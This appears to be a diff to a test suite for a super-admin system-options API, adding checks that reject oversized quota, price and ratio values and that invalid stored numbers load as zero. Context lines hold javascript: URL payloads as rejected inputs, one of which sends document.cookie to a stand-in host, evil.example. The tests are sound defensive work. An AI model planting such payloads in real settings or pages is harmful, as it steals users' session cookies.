@@ -60,12 +60,35 @@ describe('system options (super admin)', () => {
     [{ key: 'TopUpLink', value: 'javascript:alert(document.cookie)' }, 'TopUpLink 必须是 http:// 或 https:// 开头的地址'],
     [{ key: 'general_setting.docs_link', value: 'javascript:fetch(`//evil.example/${document.cookie}`)' }, 'general_setting.docs_link 必须是 http:// 或 https:// 开头的地址'],
     [{ key: 'fetch_setting.allowed_ports', value: '[443]' }, 'fetch_setting.allowed_ports 必须是端口或端口范围字符串的 JSON 数组，如 ["443", "8000-9000"]'],
+    // Numbers that would leave the ledger's exact range: a quota beyond 2^53 is rounded, 1e300 "is an integer".
+    [{ key: 'QuotaForNewUser', value: '1e300' }, 'QuotaForNewUser 不能大于 9007199254740991'],
+    [{ key: 'QuotaForNewUser', value: '9007199254740993' }, 'QuotaForNewUser 不能大于 9007199254740991'],
+    [{ key: 'QuotaPerUnit', value: '1e308' }, 'QuotaPerUnit 不能大于 1000000000'],
+    [{ key: 'Price', value: '1e308' }, 'Price 不能大于 1000000'],
+    // A ratio of 1e308 made every hold "Infinity" (and its message "≈ $Infinity").
+    [{ key: 'ModelRatio', value: '{"gpt-4o": 1e308}' }, 'ModelRatio gpt-4o 的值不能大于 1000000'],
+    [{ key: 'GroupRatio', value: '{"default": 1, "vip": 1000001}' }, 'GroupRatio vip 的值不能大于 1000000'],
+    [{ key: 'GroupGroupRatio', value: '{"vip": {"default": 1e300}}' }, 'GroupGroupRatio vip: default 的值不能大于 1000000'],
     [{ key: 'fetch_setting.domain_list', value: '["https://hooks.example.com"]' }, 'fetch_setting.domain_list 必须是域名字符串的 JSON 数组，如 ["example.com", "*.example.com"]'],
     [{ key: 'fetch_setting.ip_list', value: '["10.0.0.0/99"]' }, 'fetch_setting.ip_list 必须是 IP 地址或 CIDR 网段字符串的 JSON 数组，如 ["203.0.113.7", "10.0.0.0/8"]'],
   ])('refuses %j', async (body, message) => {
     const res = await root.client.put('/api/option/', body);
     expect(res.status).toBe(400);
     expect(res.body).toEqual({ success: false, message, data: null });
+  });
+
+  it('reads a stored number it would refuse as the default', async () => {
+    try {
+      for (const value of ['1e300', '9007199254740993', '-5', '2.5', 'lots']) {
+        await server.ctx.storage.db.deleteFrom('options').where('key', '=', 'QuotaForNewUser').execute();
+        await server.ctx.storage.db.insertInto('options').values({ key: 'QuotaForNewUser', value }).execute();
+        await server.ctx.options.load();
+        expect(server.ctx.options.number('QuotaForNewUser'), value).toBe(0);
+      }
+    } finally {
+      await server.ctx.storage.db.deleteFrom('options').where('key', '=', 'QuotaForNewUser').execute();
+      await server.ctx.options.load();
+    }
   });
 
   it('refuses wrong shapes with 400', async () => {
